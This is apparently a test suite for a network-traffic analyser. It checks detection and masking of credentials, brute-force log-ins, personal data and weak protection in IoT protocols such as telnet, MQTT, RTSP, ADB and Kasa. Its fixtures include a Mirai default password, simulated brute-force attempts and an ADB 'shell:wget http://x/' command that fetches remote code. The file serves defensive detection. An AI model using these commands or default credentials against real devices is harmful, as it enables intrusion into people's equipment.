import { describe, expect, it } from 'vitest'
import { corpus } from '../../testing/corpus.ts'
import { dialogueCapture } from '../../testing/dialogue-capture.ts'
import type { Turn } from '../../testing/dialogue-capture.ts'
import { observed } from '../../testing/observed.ts'
import type { DeviceEvidence } from '../evidence.ts'
import type { Kind } from '../kinds.ts'

const CLIENT = '192.168.7.2'
const SERVER = '192.168.7.1'

async function sides(
  turns: readonly Turn[],
  port: number,
  transport: 'tcp' | 'udp' = 'tcp',
): Promise<[DeviceEvidence, DeviceEvidence]> {
  const at = await observed(dialogueCapture(turns, port, transport))
  return [at(CLIENT), at(SERVER)]
}

const data = <K extends Kind>(device: DeviceEvidence, kind: K) => device.of(kind).map((one) => one.data)
const signals = (device: DeviceEvidence) => device.identity.signals.map((one) => `${one.kind} ${one.value}`)

/** No observation or signal of either device holds the text: what was secret stays so. */
function hides(devices: readonly DeviceEvidence[], ...secrets: string[]): void {
  const kinds: Kind[] = ['credential', 'login', 'personal', 'mqtt.session', 'mqtt.topic', 'protocol', 'lan', 'name']
  const all = JSON.stringify(
    devices.map((device) => [kinds.map((kind) => device.of(kind).map((one) => [one.key, one.data])), device.identity]),
  )
  for (const secret of secrets) expect(all).not.toContain(secret)
}

const string = (value: string) => `\0${String.fromCharCode(value.length)}${value}`
const connect = (flags: string, ...fields: string[]) => {
  const body = `${string('MQTT')}\x04${flags}\0\x3c${fields.map(string).join('')}`
  return `\x10${String.fromCharCode(body.length)}${body}`
}

describe('telnet', () => {
  const MIRAI = 'malware/id2t/mirai_botnet.pcap'
  it.skipIf(corpus(MIRAI) === undefined)('Mirai: a known default pair that the victim accepted, masked, for both', async () => {
    const at = await observed(corpus(MIRAI)!)
    const victim = at('172.20.0.5')
    const known = data(victim, 'credential').filter((one) => one.known !== undefined)
    expect(known.length).toBeGreaterThan(0)
    for (const one of known) expect(one).toMatchObject({ role: 'server', protocol: 'telnet', user: 'r…(4)', accepted: 'yes' })
    const attacker = data(at('172.20.0.1'), 'credential').find((one) => one.known !== undefined)
    expect(attacker).toMatchObject({ role: 'client', peer: { ip: '172.20.0.5', port: 23 }, accepted: 'yes' })
    expect(victim.of('login').find((one) => one.data.outcome === 'accepted')!.count).toBeGreaterThan(5)
    expect(victim.services).toMatchObject([{ port: 23, protocol: 'telnet', protection: 'clear' }])
    expect(signals(victim)).toContain('banner Ubuntu 14.04.5 LTS')
    // every exemplar is a packet of the attempt itself
    for (const one of victim.of('credential')) expect(one.exemplars.length).toBeGreaterThan(0)
  })

  const ORDINARY = 'malware/id2t/reference_telnet.pcap'
  it.skipIf(corpus(ORDINARY) === undefined)('an ordinary log-in is in clear but no known default', async () => {
    const device = (await observed(corpus(ORDINARY)!))('192.168.0.2')
    expect(data(device, 'credential')).toMatchObject([{ user: 'f…(4)', secret: 'u…(4)', known: undefined, accepted: 'yes' }])
  })

  it('counts attempts by fate, which is what brute force is judged by', async () => {
    const attempts = ['aaaa1', 'bbbb22', 'cccc333'].flatMap((password): Turn[] => [
      ['client', 'admin\r\n'],
      ['server', 'admin\r\nPassword: '],
      ['client', `${password}\r\n`],
      ['server', '\r\nLogin incorrect\r\nlogin: '],
    ])
    const [client, server] = await sides([['server', 'login: '], ...attempts], 23)
    expect(server.of('login').map((one) => [one.data.role, one.data.outcome, one.count])).toEqual([['server', 'refused', 3]])
    expect(client.of('login').map((one) => [one.data.role, one.data.outcome, one.count])).toEqual([['client', 'refused', 3]])
    hides([client, server], 'aaaa1', 'bbbb22', 'cccc333')
  })

  it('a shell without a password is an empty one', async () => {
    const [, server] = await sides(
      [
        ['server', 'login: '],
        ['client', 'root\r\n'],
        ['server', 'root\r\n~ # '],
      ],
      23,
    )
    expect(data(server, 'credential')).toMatchObject([{ user: 'r…(4)', secret: '(empty)', accepted: 'yes' }])
  })
})

describe('mqtt', () => {
  it('session, topics by direction, masked credentials, personal data in topic and payload', async () => {
    const [client, server] = await sides(
      [
        ['client', connect('\xc2', 'plug-7', 'ann@example.org', 'hunter2secret')],
        ['server', '\x20\x02\0\0'],
        ['client', `\x82\x0a\0\x01${string('cmd/7')}\0`],
        ['client', `0\x2a${string('state/7')}{"email":"bob.smith@example.net"}`],
        ['server', `0\x0b${string('cmd/7')}{"a"`],
      ],
      1883,
    )
    expect(data(client, 'mqtt.session')).toEqual([
      {
        role: 'client',
        peer: { ip: SERVER, name: undefined, port: 1883, scope: 'local' },
        clientId: 'plug-7',
        version: '3.1.1',
        user: 'a…(15)',
        hasPassword: true,
        result: 'accepted',
      },
    ])
    expect(data(server, 'mqtt.session')).toMatchObject([{ role: 'server', clientId: 'plug-7', result: 'accepted' }])
    expect(
      data(client, 'mqtt.topic')
        .map((one) => `${one.direction} ${one.topic}`)
        .toSorted(),
    ).toEqual(['publish state/7', 'receive cmd/7', 'subscribe cmd/7'])
    expect(data(client, 'credential')).toMatchObject([{ protocol: 'mqtt', user: 'a…(15)', secret: 'h…(13)', accepted: 'yes' }])
    expect(
      data(client, 'personal')
        .map((one) => `${one.what} ${one.where}`)
        .toSorted(),
    ).toEqual(['email payload', 'email user name'])
    expect(signals(client)).toContain('mqtt.client-id plug-7')
    hides([client, server], 'hunter2secret', 'ann@example.org', 'bob.smith@')
  })

  it('addresses in client identifiers and topics are masked', async () => {
    const topic = string('users/dora@example.com/plug')
    const [client, server] = await sides(
      [
        ['client', connect('\x02', 'dora@example.com-7')],
        ['client', `0${String.fromCharCode(topic.length + 2)}${topic}on`],
      ],
      1883,
    )
    expect(data(client, 'mqtt.topic')).toMatchObject([{ topic: 'users/d…(16)/plug' }])
    expect(data(client, 'mqtt.session')).toMatchObject([{ clientId: 'd…(18)' }])
    hides([client, server], 'dora@')
  })

  it('a broker that lets anyone in', async () => {
    const [, server] = await sides(
      [
        ['client', connect('\x02', 'any')],
        ['server', '\x20\x02\0\0'],
      ],
      1883,
    )
    expect(data(server, 'mqtt.session')).toMatchObject([{ role: 'server', hasPassword: false, result: 'accepted' }])
    expect(data(server, 'credential')).toEqual([])
  })
})

describe('ftp, mail, rtsp, ssh', () => {
  it('ftp: known default refused, other accepted', async () => {
    const [client, server] = await sides(
      [
        ['server', '220 NVR FTP ready\r\n'],
        ['client', 'USER root\r\n'],
        ['server', '331 p\r\n'],
        ['client', 'PASS xc3511\r\n'],
        ['server', '530 no\r\n'],
        ['client', 'USER root\r\n'],
        ['server', '331 p\r\n'],
        ['client', 'PASS Tr0ub4dor\r\n'],
        ['server', '230 in\r\n'],
      ],
      21,
    )
    expect(data(server, 'credential').map((one) => [one.user, one.secret, one.known !== undefined, one.accepted])).toEqual([
      ['r…(4)', 'x…(6)', true, 'no'],
      ['r…(4)', 'T…(9)', false, 'yes'],
    ])
    expect(signals(server)).toContain('banner NVR FTP ready')
    hides([client, server], 'xc3511', 'Tr0ub4dor')
  })

  it('smtp: address and password masked, server banner as signal', async () => {
    const plain = Buffer.from('\0carol@example.com\0letmein99').toString('base64')
    const [client, server] = await sides(
      [
        ['server', '220 mx ESMTP\r\n'],
        ['client', 'EHLO cam\r\n'],
        ['server', '250 AUTH PLAIN\r\n'],
        ['client', `AUTH PLAIN ${plain}\r\n`],
        ['server', '235 ok\r\n'],
      ],
      25,
    )
    expect(data(client, 'credential')).toMatchObject([
      { role: 'client', protocol: 'smtp', scheme: 'PLAIN', user: 'c…(17)', secret: 'l…(9)', accepted: 'yes' },
    ])
    expect(data(client, 'personal')).toMatchObject([{ what: 'email', where: 'user name' }])
    expect(signals(server)).toContain('banner mx ESMTP')
    hides([client, server], 'letmein99', 'carol@example.com', plain)
  })

  it('rtsp: credentials in the URL masked and gone from the path; an open stream named', async () => {
    const [client, server] = await sides(
      [
        ['client', 'DESCRIBE rtsp://192.168.7.1/user=admin_password=tlJwpbo6_channel=1.sdp RTSP/1.0\r\nCSeq: 1\r\n\r\n'],
        ['server', 'RTSP/1.0 200 OK\r\nCSeq: 1\r\nServer: Hipcam RealServer/V1.0\r\n\r\n'],
        ['client', 'DESCRIBE rtsp://192.168.7.1/live RTSP/1.0\r\nCSeq: 2\r\n\r\n'],
        ['server', 'RTSP/1.0 200 OK\r\nCSeq: 2\r\n\r\n'],
      ],
      554,
    )
    expect(data(server, 'credential')).toMatchObject([
      { protocol: 'rtsp', scheme: 'url', user: 'a…(5)', secret: 't…(8)', accepted: 'yes' },
    ])
    expect(data(server, 'protocol')).toMatchObject([
      { protocol: 'rtsp', role: 'server', detail: { open: 'rtsp://192.168.7.1/live', software: 'Hipcam RealServer/V1.0' } },
    ])
    expect(signals(server)).toContain('rtsp.server Hipcam RealServer/V1.0')
    hides([client, server], 'tlJwpbo6')
  })

  it('rtsp: Digest tried is a log-in, but nothing readable', async () => {
    const [, server] = await sides(
      [
        [
          'client',
          'DESCRIBE rtsp://192.168.7.1/a RTSP/1.0\r\nCSeq: 1\r\nAuthorization: Digest username="admin", response="x"\r\n\r\n',
        ],
        ['server', 'RTSP/1.0 401 Unauthorized\r\nCSeq: 1\r\nWWW-Authenticate: Digest realm="a"\r\n\r\n'],
      ],
      554,
    )
    expect(data(server, 'login')).toMatchObject([{ protocol: 'rtsp', outcome: 'refused' }])
    expect(data(server, 'credential')).toEqual([])
  })

  it('ssh: banners for both, encrypted; version 1 is broken', async () => {
    const [client, server] = await sides(
      [
        ['server', 'SSH-2.0-dropbear_2012.55\r\n'],
        ['client', 'SSH-2.0-Go\r\n'],
      ],
      22,
    )
    expect(signals(server)).toContain('banner dropbear_2012.55')
    expect(data(client, 'protocol')).toMatchObject([
      { protocol: 'ssh', role: 'client', detail: { software: 'Go', version: '2.0' } },
    ])
    expect(server.services).toMatchObject([{ protocol: 'ssh', protection: 'encrypted' }])
    const [, old] = await sides(
      [
        ['server', 'SSH-1.5-1.2.27\n'],
        ['client', 'SSH-1.5-x\n'],
      ],
      22,
    )
    expect(old.services).toMatchObject([{ protocol: 'ssh', protection: 'broken' }])
  })
})

describe('LAN protocols', () => {
  const kasa = (json: string) => {
    let key = 171
    return new TextEncoder().encode(json).map((byte) => (key = byte ^ key))
  }

  it('kasa: broken, reveals coordinates and Wi-Fi key', async () => {
    const [client, server] = await sides(
      [
        ['client', kasa('{"system":{"get_sysinfo":{}}}')],
        [
          'server',
          kasa(
            '{"system":{"get_sysinfo":{"err_code":0,"model":"HS100(EU)","alias":"Lamp","latitude":49.877512,"longitude":8.654321}}}',
          ),
        ],
        ['client', kasa('{"netif":{"set_stainfo":{"ssid":"homenet","password":"correcthorse","key_type":3}}}')],
      ],
      9999,
      'udp',
    )
    expect(data(server, 'lan')).toMatchObject([
      { protocol: 'kasa', role: 'server', protection: 'broken', detail: { 'system.get_sysinfo': 'asked', model: 'HS100(EU)' } },
    ])
    expect(data(client, 'lan')).toMatchObject([{ role: 'client', peer: { ip: SERVER, port: 9999 } }])
    expect(signals(server)).toEqual(expect.arrayContaining(['kasa.model HS100(EU)', 'kasa.alias Lamp']))
    expect(data(server, 'personal').map((one) => one.what)).toContain('coordinates')
    expect(data(server, 'credential')).toMatchObject([
      { role: 'server', protocol: 'kasa', scheme: 'Wi-Fi key', secret: 'c…(12)' },
    ])
    hides([client, server], 'correcthorse', '49.877512')
  })

  it('miio: a token given to whoever asks is a secret in clear', async () => {
    const hex = (digits: string) => Uint8Array.from(digits.match(/../g)!, (pair) => Number.parseInt(pair, 16))
    const [client, server] = await sides(
      [
        ['client', hex(`21310020${'ff'.repeat(28)}`)],
        ['server', hex(`2131002000000000038eafd600000123${'5e'.repeat(16)}`)],
      ],
      54321,
      'udp',
    )
    expect(data(server, 'lan')).toMatchObject([
      { protocol: 'miio', role: 'server', protection: 'broken', detail: { token: 'revealed', deviceId: '59682774' } },
    ])
    expect(data(server, 'credential')).toMatchObject([{ protocol: 'miio', scheme: 'token', secret: '5…(32)' }])
    expect(signals(server)).toContain('miio.id 59682774')
    hides([client, server], '5e5e5e')
  })

  it('adb: open, and who it is', async () => {
    const message = (command: string, payload: string) => {
      const out = Buffer.alloc(24 + payload.length)
      out.write(command, 0, 'latin1')
      out.writeUInt32LE(payload.length, 12)
      out.writeUInt32LE(~out.readUInt32LE(0) >>> 0, 20)
      out.write(payload, 24, 'latin1')
      return out
    }
    const [, server] = await sides(
      [
        ['client', message('CNXN', 'host::\0')],
        ['server', message('CNXN', 'device::ro.product.name=r2;ro.product.model=TV Box;\0')],
        ['client', message('OPEN', 'shell:wget http://x/\0')],
      ],
      5555,
    )
    expect(data(server, 'lan')).toMatchObject([
      {
        protocol: 'adb',
        role: 'server',
        protection: 'clear',
        detail: { model: 'TV Box', authentication: 'none', granted: 'yes', 'service shell': 'opened' },
      },
    ])
    expect(signals(server)).toContain('adb.banner device r2 TV Box')
  })

  it('adb: what demands TLS is not held to be clear', async () => {
    const message = (command: string) => {
      const out = Buffer.alloc(24)
      out.write(command, 0, 'latin1')
      out.writeUInt32LE(~out.readUInt32LE(0) >>> 0, 20)
      return out
    }
    const [client, server] = await sides(
      [
        ['client', message('CNXN')],
        ['server', message('STLS')],
      ],
      5555,
    )
    expect(data(server, 'lan')).toMatchObject([
      { role: 'server', protection: 'encrypted', detail: { authentication: 'tls', granted: 'no' } },
    ])
    expect(data(client, 'lan')).toMatchObject([{ role: 'client', protection: 'encrypted' }])
  })

  it('tuya: a heartbeat without content does not make an encrypted control clear', async () => {
    const frame = (command: number, payload: number[]) =>
      Uint8Array.from([
        0,
        0,
        0x55,
        0xaa,
        0,
        0,
        0,
        1,
        0,
        0,
        0,
        command,
        0,
        0,
        0,
        payload.length + 8,
        ...payload,
        0,
        0,
        0,
        0,
        0,
        0,
        0xaa,
        0x55,
      ])
    const sealed = [
      0x33,
      0x2e,
      0x33,
      ...Array.from({ length: 12 }, () => 0),
      ...Array.from({ length: 16 }, (_, i) => (i * 89 + 151) & 255),
    ]
    const [, server] = await sides(
      [
        ['client', frame(9, [])],
        ['server', frame(9, [0, 0, 0, 0])],
        ['client', frame(7, sealed)],
      ],
      6668,
    )
    expect(data(server, 'lan')).toMatchObject([
      { protocol: 'tuya', role: 'server', protection: 'encrypted', detail: { version: '3.3' } },
    ])
    const [, old] = await sides(
      [
        ['client', frame(10, [...Buffer.from('{"gwId":"0020"}')])],
        ['server', frame(9, [0, 0, 0, 0])],
      ],
      6668,
    )
    expect(data(old, 'lan')).toMatchObject([{ protection: 'clear' }])
  })

  it.skipIf(corpus('ndpi/pcap/tuya_lp.pcap') === undefined)(
    'tuya: an announcement names product and version; how control is protected it does not show',
    async () => {
      const device = (await observed(corpus('ndpi/pcap/tuya_lp.pcap')!))('192.168.242.181')
      expect(data(device, 'lan')).toMatchObject([
        {
          protocol: 'tuya',
          role: 'server',
          protection: 'unknown',
          detail: { announcement: 'broken', version: '3.3', productKey: 'keyvtdmgqcsh5hug' },
        },
      ])
      expect(signals(device)).toContain('tuya.product keyvtdmgqcsh5hug')
      expect(device.endpoints).toMatchObject([{ protocol: 'tuya', protection: 'broken' }])
    },
  )
})
